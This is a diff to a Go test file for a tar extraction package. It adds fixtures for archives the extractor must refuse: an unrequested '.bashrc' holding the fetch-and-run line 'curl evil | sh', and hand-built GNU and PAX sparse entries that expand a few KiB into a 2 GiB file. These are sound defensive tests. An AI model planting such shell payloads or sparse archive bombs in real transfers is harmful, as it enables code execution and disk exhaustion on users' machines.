@@ -5,6 +5,7 @@ import (
 	"bytes"
 	"flag"
 	"fmt"
+	"io"
 	"os"
 	"path/filepath"
 	"strings"
@@ -151,6 +152,8 @@ type fixture struct {
 	entry       string
 	entryPrefix bool
 	limits      transfer.Limits
+	// names is ExtractOptions.Names: what the stream was asked for.
+	names []string
 	// An accepted archive: checks on the extracted tree.
 	check func(t *testing.T, dest string, place transfer.Placement)
 }
@@ -343,6 +346,43 @@ var fixtures = []fixture{
 		return b.raw(blk).raw(make([]byte, 1024)).noEnd()
 	}},
 
+	{name: "unrequested-top-level", want: transfer.ErrUnrequested, entry: ".bashrc", names: []string{"payload"}, build: func() []byte {
+		// Asked for payload, the sandbox's tar adds a file beside it; the
+		// dest of `ferry cp box:payload ~/` is the home directory.
+		return newBuilder().dir("payload/").file("payload/x", "x\n").file(".bashrc", "curl evil | sh\n").end()
+	}},
+	{name: "unrequested-root", want: transfer.ErrUnrequested, entry: "./", names: []string{"payload"}, build: func() []byte {
+		// The root entry would give dest its mode: only "." asks for it.
+		return newBuilder().dir("./").file("./payload", "x\n").end()
+	}},
+	{name: "sparse-gnu", want: transfer.ErrUnsupported, entry: "sparse", build: func() []byte {
+		return newBuilder().prelude().raw(gnuSparse("sparse", sparseSize)).end()
+	}},
+	{name: "sparse-pax-0.0", want: transfer.ErrUnsupported, entry: "sparse", build: func() []byte {
+		// Repeated offset and numbytes records, before GNU tar 1.15.92.
+		b := newBuilder().prelude()
+		b.rawEntry("PaxHeaders.0/sparse", 'x', []byte(paxRecord("GNU.sparse.size", fmt.Sprint(sparseSize))+
+			paxRecord("GNU.sparse.numblocks", "1")+paxRecord("GNU.sparse.offset", fmt.Sprint(sparseSize-512))+
+			paxRecord("GNU.sparse.numbytes", "512")))
+		return b.rawEntry("sparse", '0', sparseData()).end()
+	}},
+	{name: "sparse-pax-0.1", want: transfer.ErrUnsupported, entry: "sparse", build: func() []byte {
+		b := newBuilder().prelude()
+		b.rawEntry("PaxHeaders.0/sparse", 'x', []byte(paxRecord("GNU.sparse.size", fmt.Sprint(sparseSize))+
+			paxRecord("GNU.sparse.numblocks", "1")+paxRecord("GNU.sparse.map", fmt.Sprintf("%d,512", sparseSize-512))))
+		return b.rawEntry("sparse", '0', sparseData()).end()
+	}},
+	{name: "sparse-pax-1.0", want: transfer.ErrUnsupported, entry: "sparse", build: func() []byte {
+		// What GNU tar --sparse --format=posix writes: the map leads the
+		// data, the real name is in a record.
+		b := newBuilder().prelude()
+		b.rawEntry("PaxHeaders.0/sparse", 'x', []byte(paxRecord("GNU.sparse.major", "1")+paxRecord("GNU.sparse.minor", "0")+
+			paxRecord("GNU.sparse.name", "sparse")+paxRecord("GNU.sparse.realsize", fmt.Sprint(sparseSize))))
+		sparseMap := make([]byte, 512)
+		copy(sparseMap, fmt.Sprintf("1\n%d\n512\n", sparseSize-512))
+		return b.rawEntry("GNUSparseFile.0/sparse", '0', append(sparseMap, sparseData()...)).end()
+	}},
+
 	// Limits other than the defaults, on ordinary archives.
 	{name: "many-entries", want: transfer.ErrLimit, entry: "f07", limits: transfer.Limits{MaxEntries: 10}, build: manyEntries},
 	{name: "many-entries", want: transfer.ErrLimit, entry: "f04", limits: transfer.Limits{MaxTotalBytes: 100}, build: manyEntries},
@@ -416,6 +456,31 @@ var fixtures = []fixture{
 			t.Errorf("dest: %v, %v; want mode %v", fi.Mode(), err, want)
 		}
 	}},
+}
+
+// sparseSize is the logical size of the sparse fixtures: 2 GiB from a
+// few KiB, under DefaultLimits.MaxFileSize.
+const sparseSize = 2 << 30
+
+// sparseData is the sparse fixtures' one stored block, at the end.
+func sparseData() []byte { return bytes.Repeat([]byte("s"), 512) }
+
+// gnuSparse is an old GNU sparse entry ('S'): its map in the header's
+// sparse array (offset 386, four 12+12-byte entries, then isextended at
+// 482 and the real size at 483), and one stored block.
+func gnuSparse(name string, size int64) []byte {
+	blk := rawBlock(name, 'S', 512)
+	copy(blk[257:265], "ustar  \x00") // GNU magic and version
+	copy(blk[386:398], fmt.Sprintf("%011o\x00", size-512))
+	copy(blk[398:410], fmt.Sprintf("%011o\x00", 512))
+	copy(blk[483:495], fmt.Sprintf("%011o\x00", size))
+	copy(blk[148:156], "        ")
+	var sum int64
+	for _, c := range blk {
+		sum += int64(c)
+	}
+	copy(blk[148:156], fmt.Sprintf("%06o\x00 ", sum))
+	return append(blk, sparseData()...)
 }
 
 func manyEntries() []byte {
@@ -530,4 +595,37 @@ func readFixture(t *testing.T, name string) []byte {
 		t.Fatalf("%v (run go test ./transfer -run TestFixtures -update)", err)
 	}
 	return data
+}
+
+// TestSparseFixturesExpand checks that the sparse fixtures are what they
+// claim: archive/tar reads each as a 2 GiB file from a few KiB, which is
+// what Extract must refuse.
+func TestSparseFixturesExpand(t *testing.T) {
+	for _, name := range []string{"sparse-gnu", "sparse-pax-0.0", "sparse-pax-0.1", "sparse-pax-1.0"} {
+		t.Run(name, func(t *testing.T) {
+			data := readFixture(t, name)
+			tr := tar.NewReader(bytes.NewReader(data))
+			for {
+				hdr, err := tr.Next()
+				if err != nil {
+					t.Fatalf("no sparse entry: %v", err)
+				}
+				if hdr.Name != "sparse" {
+					continue
+				}
+				if hdr.Size != sparseSize {
+					t.Fatalf("size %d, want %d", hdr.Size, sparseSize)
+				}
+				// The hole reads as zeros that never crossed the wire.
+				n, err := io.CopyN(io.Discard, tr, 64<<20)
+				if err != nil || n != 64<<20 {
+					t.Fatalf("read %d of the hole: %v", n, err)
+				}
+				if len(data) > 8<<10 {
+					t.Errorf("fixture is %d bytes", len(data))
+				}
+				return
+			}
+		})
+	}
 }
